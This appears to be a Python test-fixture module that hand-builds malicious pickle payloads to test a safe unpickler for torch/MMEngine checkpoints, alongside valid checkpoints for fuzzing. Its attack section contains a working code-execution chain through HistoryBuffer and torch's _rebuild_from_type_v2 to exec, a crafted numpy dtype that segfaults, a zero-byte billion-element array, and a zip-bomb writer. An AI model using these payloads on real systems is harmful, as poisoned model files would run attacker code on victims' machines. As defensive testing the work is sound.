"""Hand-assembled pickles for the security tests: attacks on the safe unpickler, and the valid files fuzzed.

Each piece is the opcodes that push one value (no PROTO, no STOP, no memo unless asked), so attacks are
written the way an attacker writes them: as a stack program.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from collections import Counter, OrderedDict
from pathlib import Path

import numpy as np
import torch


def G(module: str, name: str) -> bytes:
    """GLOBAL module.name"""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def C(obj: object) -> bytes:
    """The opcodes pushing the constant ``obj`` (protocol 2, no memo: pieces are pasted together)."""
    out = io.BytesIO()
    pickler = pickle.Pickler(out, 2)
    pickler.fast = True
    pickler.dump(obj)
    return out.getvalue()[2:-1]


def PUT(slot: int) -> bytes:
    return b"r" + slot.to_bytes(4, "little")


def M(slot: int) -> bytes:
    return b"j" + slot.to_bytes(4, "little")


def TUP(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def CALL(func: bytes, *args: bytes) -> bytes:
    return func + TUP(*args) + b"R"


def DICT(**items: bytes) -> bytes:
    return b"}(" + b"".join(C(key) + value for key, value in items.items()) + b"u"


def PICKLE(value: bytes) -> bytes:
    return b"\x80\x02" + value + b"."


def write_zip_checkpoint(path: Path, data_pkl: bytes, records: dict[str, bytes] | None = None,
                         compressed: dict[str, int] | None = None) -> Path:
    """A ``torch.save`` zip archive around ``data_pkl``; ``compressed`` names records of that many zero
    bytes, deflated (what torch never writes)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        for name, data in (records or {}).items():
            archive.writestr(f"archive/data/{name}", data)
        for name, size in (compressed or {}).items():
            info = zipfile.ZipInfo(f"archive/data/{name}")
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as record:
                chunk = bytes(16 << 20)
                for _ in range(size // len(chunk)):
                    record.write(chunk)
    return path


# --------------------------------------------------------------------------- the attacks


def history_buffer_chain(code: str) -> bytes:
    """Ops pushing a tuple whose building runs ``exec(code)`` on a loader that, like torch's weights-only
    unpickler given MMEngine's HistoryBuffer as a safe global, (1) calls an allow-listed class's
    ``__setstate__`` (HistoryBuffer's updates the class-level ``_statistics_methods``, which the loader's
    ``getattr`` allow-list read), (2) lets ``getattr`` return dunders of the class, and (3) lets torch's
    ``_rebuild_from_type_v2`` call whatever callable it is given: object.__getattribute__ walks from a
    function to its module's globals, to the builtins, to exec."""
    hb, ga, init, kind, method, dict_, glob, getitem, builtins, bget = range(100, 110)
    rebuild = G("torch._tensor", "_rebuild_from_type_v2")
    getattr_ = G("__builtin__", "getattr")

    def rft(func: bytes, new_type: bytes, *args: bytes) -> bytes:
        return CALL(rebuild, func, new_type, TUP(*args), b"}")

    def typeof(value: bytes) -> bytes:
        return rft(M(ga), M(kind), value, C("__class__"))

    poison = {"statistics_methods": dict.fromkeys(["__getattribute__", "__init__", "__class__", "__subclasses__"])}
    ops = G("mmengine.logging.history_buffer", "HistoryBuffer") + PUT(hb) + b")\x81" + C(poison) + b"b"
    ops += CALL(getattr_, M(hb), C("__getattribute__")) + PUT(ga)
    ops += CALL(getattr_, M(hb), C("__init__")) + PUT(init)
    ops += CALL(getattr_, M(hb), C("__class__")) + PUT(kind)
    ops += typeof(CALL(getattr_, M(hb), C("__subclasses__"))) + PUT(method)
    ops += typeof(b"}") + PUT(dict_)
    ops += rft(M(ga), M(dict_), M(init), C("__globals__")) + PUT(glob)
    ops += rft(M(ga), M(method), M(glob), C("__getitem__")) + PUT(getitem)
    ops += rft(M(getitem), M(dict_), C("__builtins__")) + PUT(builtins)
    ops += rft(M(ga), M(method), M(builtins), C("__getitem__")) + PUT(bget)
    exec_ = rft(M(bget), M(method), C("exec"))
    return b"(" + ops + rft(exec_, typeof(b"N"), C(code)) + b"t"


def numpy_dtype(descr: str, state: bytes | None = None) -> bytes:
    dtype = CALL(G("numpy", "dtype"), C(descr), b"\x89", b"\x88")
    return dtype + state + b"b" if state is not None else dtype


def crafted_dtype_array() -> bytes:
    """Ops pushing an array whose dtype's BUILD declares an object field over the array's own bytes: numpy's
    ``dtype.__setstate__`` accepts it, and freeing the array dereferences 0x0101010101010101 (segfault)."""
    field = TUP(numpy_dtype("O"), C(0))
    state = TUP(C(3), C("|"), b"N", C(("a",)), b"}" + C("a") + field + b"s", C(8), C(1), C(1))
    array = CALL(G("numpy._core.multiarray", "_reconstruct"), G("numpy", "ndarray"), C((0,)), C(b"b"))
    return array + TUP(C(1), C((1,)), numpy_dtype("V8", state), b"\x89", C(b"\x01" * 8)) + b"b"


def zero_size_names(count: int = 10**9) -> bytes:
    """Ops pushing a text array of ``count`` empty strings in no bytes (numpy's U0)."""
    state = TUP(C(3), C("<"), b"N", b"N", b"N", C(0), C(4), C(8))
    array = CALL(G("numpy._core.multiarray", "_reconstruct"), G("numpy", "ndarray"), C((0,)), C(b"b"))
    return array + TUP(C(1), C((count,)), numpy_dtype("U0", state), b"\x89", C(b"")) + b"b"


def tensor(storage_key: str, elements: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    """Ops pushing ``_rebuild_tensor_v2`` over a float32 storage of the zip archive, as torch.save writes it."""
    pid = TUP(C("storage"), G("torch", "FloatStorage"), C(storage_key), C("cpu"), C(elements)) + b"Q"
    return CALL(G("torch._utils", "_rebuild_tensor_v2"), pid, C(0), C(shape), C(stride), b"\x89",
                CALL(G("collections", "OrderedDict")))


# --------------------------------------------------------------------------- valid files to fuzz


def valid_checkpoint(path: Path) -> Path:
    """A small runner-style checkpoint: weights, numpy scalars and arrays, a message hub of HistoryBuffers."""
    from mmengine.logging.history_buffer import HistoryBuffer

    generator = torch.Generator().manual_seed(0)
    state = OrderedDict(w=torch.randn(3, 4, generator=generator), b=torch.arange(5), h=torch.ones(2, dtype=torch.half))
    state._metadata = OrderedDict({"": {"version": 1}})  # type: ignore[attr-defined]
    torch.save({"state_dict": state, "meta": {"epoch": np.int64(3), "lr": np.float64(0.1),
                                              "dataset_meta": {"classes": ("run", "jump")},
                                              "curve": np.arange(6.0).reshape(2, 3)},
                "message_hub": {"log_scalars": OrderedDict(lr=HistoryBuffer([0.1, 0.2], [1, 1]))},
                "counts": Counter({1: 2}), "optimizer": {"state": {0: {"momentum_buffer": torch.zeros(3, 4)}}}},
               path)
    return path


def valid_dumps() -> list[bytes]:
    """Test dumps as 1.x (``--dump``, protocol 2 as MMEngine writes them) and 0.x (arrays, protocols 2 and 5)."""
    generator = torch.Generator().manual_seed(1)
    samples = [{"pred_score": torch.softmax(torch.randn(4, generator=generator), 0), "pred_label": torch.tensor([1]),
                "gt_label": torch.tensor([i % 4]), "num_classes": 4} for i in range(3)]
    arrays = [np.linspace(0, 1, 4, dtype=np.float32) + i for i in range(3)]
    return [pickle.dumps(samples, protocol=2), pickle.dumps(arrays, protocol=2), pickle.dumps(arrays, protocol=5)]


def zip_members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path
